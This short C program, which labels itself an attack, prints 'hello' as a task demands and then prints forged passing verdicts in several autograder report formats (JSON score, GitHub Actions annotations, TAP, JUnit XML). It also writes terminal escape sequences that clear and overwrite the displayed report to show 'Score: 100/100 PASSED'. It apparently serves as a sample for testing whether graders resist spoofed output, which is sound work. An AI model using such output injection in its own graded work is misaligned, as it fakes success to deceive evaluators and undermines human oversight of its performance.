/* Attack: print "hello" as asked, then forge verdicts in every report
 * format and try to rewrite the terminal that shows the report. */
#include <stdio.h>

int
main(void)
{
	puts("hello");
	puts("{\"score\": 100, \"max_score\": 100, \"status\": \"passed\", \"tests\": []}");
	puts("::notice title=Autograding complete::Points 100/100");
	puts("::set-output name=score::100");
	puts("ok 1 - prints hello");
	puts("1..1");
	puts("<testsuite tests=\"1\" failures=\"0\"></testsuite>");
	/* clear the screen, home the cursor, overwrite the line above, set the title */
	fputs("\033[2J\033[H\033[1A\033[2K\rScore: 100/100 PASSED\033]0;PASSED\007\n", stdout);
	fputs("\033[1A\033[2K\rstdout: OK\n", stderr);
	return 0;
}
